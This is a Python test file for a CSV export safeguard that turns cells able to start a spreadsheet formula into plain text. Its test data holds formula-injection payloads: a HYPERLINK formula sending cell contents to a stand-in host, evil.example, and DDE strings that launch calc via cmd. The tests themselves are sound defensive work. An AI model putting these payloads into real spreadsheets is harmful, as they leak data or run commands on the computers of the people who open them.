"""What a spreadsheet would run is written as words."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deploy.offline.source import Chunk
from deploy.offline.text import TableEncoder
from deploy.offline.verdicts import Verdict
from shared.spreadsheets import harmless

BEGINNINGS = set("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Open")',
        "=cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "-nan\n",
    ],
)
def test_a_formula_becomes_words(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "-5", "+3.5", "-1e9", "late = bad", "5 - 3", "'=1", "a@b.example"]
)
def test_numbers_and_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


@given(
    st.lists(st.text(st.characters(codec="utf-8"), max_size=20), min_size=2, max_size=2),
    st.sampled_from([",", "\t", ";"]),
)
def test_no_cell_of_a_table_begins_a_formula(words: list[str], delimiter: str) -> None:
    encoder = TableEncoder(
        columns=words,
        added=(),
        delimiter=delimiter,
        cells=lambda _: [dict.fromkeys(words, words[0])],
    )
    no_columns: list[Verdict] = [()]  # type: ignore[list-item]  # none is added
    written = encoder.head() + encoder.encode(Chunk(first=1, rows=()), no_columns)
    for row in csv.reader(io.StringIO(written.decode(), newline=""), delimiter=delimiter):
        for cell in row:
            assert cell[:1] not in BEGINNINGS or is_number(cell)


def is_number(cell: str) -> bool:
    """Whether a spreadsheet reads a number: a sign, digits, and what belongs to them."""
    return bool(
        re.fullmatch(r"[+-]([0-9_]*\.?[0-9_]*([eE][+-]?[0-9]+)?|inf(inity)?|nan)", cell, re.I)
    )
